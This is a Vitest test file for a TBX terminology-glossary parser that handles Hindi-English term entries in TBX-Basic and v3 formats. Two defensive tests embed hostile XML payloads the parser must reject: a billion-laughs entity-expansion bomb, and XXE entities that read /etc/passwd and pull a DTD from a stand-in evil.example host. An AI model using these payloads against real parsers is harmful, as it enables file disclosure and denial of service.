import { describe, expect, it } from "vitest";
import { errorOf } from "@/lib/errors.test-helpers";
import { tbxEntries } from "./fixtures.test-helpers";
import { readTbx } from "./read-tbx";
import { writeTbx } from "./write-tbx";

const entries = tbxEntries;

describe("readTbx", () => {
  it("round-trips what writeTbx wrote", () => {
    expect(readTbx(writeTbx(entries))).toEqual(entries);
  });

  it("reads a TBX-Basic file as other tools write it (tig and ntig, hi-IN/en-GB, bare langSet definition)", () => {
    const xml = `<?xml version="1.0" encoding="UTF-8"?>
<martif type="TBX-Basic" xml:lang="en-US">
  <martifHeader>
    <fileDesc><titleStmt><title>Agriculture glossary</title></titleStmt>
      <sourceDesc><p>Exported by another CAT tool</p></sourceDesc></fileDesc>
    <encodingDesc><p type="XCSURI">TBXBasicXCSV02.xcs</p></encodingDesc>
  </martifHeader>
  <text>
    <body>
      <termEntry id="c1">
        <descrip type="subjectField">agriculture</descrip>
        <langSet xml:lang="en-GB">
          <descrip type="definition">A person who farms.</descrip>
          <tig>
            <term>farmer</term>
            <termNote type="partOfSpeech">noun</termNote>
            <termNote type="administrativeStatus">preferredTerm-admn-sts</termNote>
          </tig>
          <tig>
            <term>cultivator</term>
            <termNote type="administrativeStatus">admittedTerm-admn-sts</termNote>
          </tig>
          <tig>
            <term>peasant</term>
            <termNote type="administrativeStatus">supersededTerm-admn-sts</termNote>
          </tig>
        </langSet>
        <langSet xml:lang="hi-IN">
          <tig><term>किसान</term></tig>
          <tig><term>कृषक</term></tig>
        </langSet>
        <langSet xml:lang="fr"><tig><term>agriculteur</term></tig></langSet>
      </termEntry>
      <termEntry id="c2">
        <langSet xml:lang="hi">
          <ntig>
            <termGrp>
              <term>नदी</term>
              <termNote type="partOfSpeech">noun</termNote>
            </termGrp>
          </ntig>
        </langSet>
        <langSet xml:lang="en-US">
          <ntig>
            <termGrp>
              <term>  river
              </term>
              <termNote type="normativeAuthorization">deprecatedTerm</termNote>
            </termGrp>
          </ntig>
          <ntig><termGrp><term><![CDATA[stream & brook]]></term></termGrp></ntig>
        </langSet>
      </termEntry>
      <termEntry id="only-english">
        <langSet xml:lang="en"><tig><term>orphan</term></tig></langSet>
      </termEntry>
    </body>
  </text>
</martif>`;
    const english = [
      { text: "farmer", status: "preferred" },
      { text: "cultivator", status: "preferred" },
      { text: "peasant", status: "forbidden" },
    ];
    expect(readTbx(xml)).toEqual([
      { id: "c1", hindi: "किसान", english, partOfSpeech: "noun", note: "A person who farms." },
      { id: "c1-2", hindi: "कृषक", english, partOfSpeech: "noun", note: "A person who farms." },
      {
        id: "c2",
        hindi: "नदी",
        english: [
          { text: "river", status: "forbidden" },
          { text: "stream & brook", status: "preferred" },
        ],
        partOfSpeech: "noun",
        note: null,
      },
    ]);
  });

  it("reads grammaticalGender into noun-m / noun-f and spellings of other tools into Setu's values", () => {
    const xml = `<?xml version="1.0"?>
<martif type="TBX-Basic"><text><body>
  <termEntry id="a"><langSet xml:lang="hi"><tig><term>कमरा</term>
    <termNote type="partOfSpeech">Noun</termNote><termNote type="grammaticalGender">masculine</termNote></tig></langSet>
    <langSet xml:lang="en"><tig><term>room</term></tig></langSet></termEntry>
  <termEntry id="b"><langSet xml:lang="hi"><tig><term>बात</term>
    <termNote type="grammaticalGender">feminine</termNote><termNote type="partOfSpeech">noun</termNote></tig></langSet>
    <langSet xml:lang="en"><tig><term>matter</term><termNote type="partOfSpeech">noun</termNote></tig></langSet></termEntry>
  <termEntry id="c"><langSet xml:lang="hi"><tig><term>पढ़ना</term></tig></langSet>
    <langSet xml:lang="en"><tig><term>to read</term><termNote type="partOfSpeech">verb</termNote></tig></langSet></termEntry>
</body></text></martif>`;
    expect(readTbx(xml).map((e) => [e.hindi, e.partOfSpeech])).toEqual([
      ["कमरा", "noun-m"],
      ["बात", "noun-f"],
      ["पढ़ना", "verb"],
    ]);
  });

  it("reads the TBX v3 <tbx> form (conceptEntry / langSec / termSec)", () => {
    const xml = `<?xml version="1.0"?>
<tbx style="dca" type="TBX-Basic" xml:lang="en" xmlns="urn:iso:std:iso:30042:ed-2">
  <tbxHeader><fileDesc><sourceDesc><p>v3</p></sourceDesc></fileDesc></tbxHeader>
  <text><body>
    <conceptEntry id="n1">
      <langSec xml:lang="hi"><termSec><term>नीति</term></termSec></langSec>
      <langSec xml:lang="en"><termSec><term>policy</term>
        <termNote type="administrativeStatus">preferredTerm-admn-sts</termNote></termSec></langSec>
    </conceptEntry>
  </body></text>
</tbx>`;
    expect(readTbx(xml)).toEqual([
      { id: "n1", hindi: "नीति", english: [{ text: "policy", status: "preferred" }], partOfSpeech: null, note: null },
    ]);
  });

  it("rejects billion laughs without expanding anything", () => {
    const xml = `<?xml version="1.0"?>
<!DOCTYPE martif [
  <!ENTITY lol "lol">
  <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<martif type="TBX-Basic"><text><body><termEntry><langSet xml:lang="hi"><tig><term>&lol3;</term></tig></langSet></termEntry></body></text></martif>`;
    expect(errorOf(() => readTbx(xml)).code).toBe("UNSAFE_XML");
  });

  it("rejects XXE (external entity) and external DTD references", () => {
    const xxe = `<?xml version="1.0"?>
<!DOCTYPE martif [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<martif><text><body><termEntry><langSet xml:lang="hi"><tig><term>&xxe;</term></tig></langSet></termEntry></body></text></martif>`;
    expect(errorOf(() => readTbx(xxe)).code).toBe("UNSAFE_XML");
    const param = `<!DOCTYPE martif [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><martif/>`;
    expect(errorOf(() => readTbx(param)).code).toBe("UNSAFE_XML");
    const dtd = `<?xml version="1.0"?>\n<!DOCTYPE martif SYSTEM "TBXcoreStructV02.dtd">\n<martif type="TBX"/>`;
    expect(errorOf(() => readTbx(dtd)).code).toBe("UNSAFE_XML");
    expect(readTbx(dtd, { allowExternalDtdReference: true })).toEqual([]);
    expect(readTbx(`<!DOCTYPE martif><martif/>`)).toEqual([]);
  });

  it("reports malformed XML with line:column", () => {
    const e = errorOf(() => readTbx("<martif>\n  <text>\n</martif>"));
    expect(e.code).toBe("MALFORMED_FILE");
    expect(e.message).toMatch(/3:\d+/);
    expect(errorOf(() => readTbx("hindi,english\nक,k")).code).toBe("MALFORMED_FILE");
    expect(errorOf(() => readTbx("")).code).toBe("MALFORMED_FILE");
  });

  it("rejects a well-formed XML file that is not TBX, and oversized input", () => {
    expect(errorOf(() => readTbx("<tmx version='1.4'/>")).message).toContain("not TBX");
    expect(errorOf(() => readTbx("<martif/>", { maxChars: 5 })).code).toBe("TOO_LARGE");
  });
});
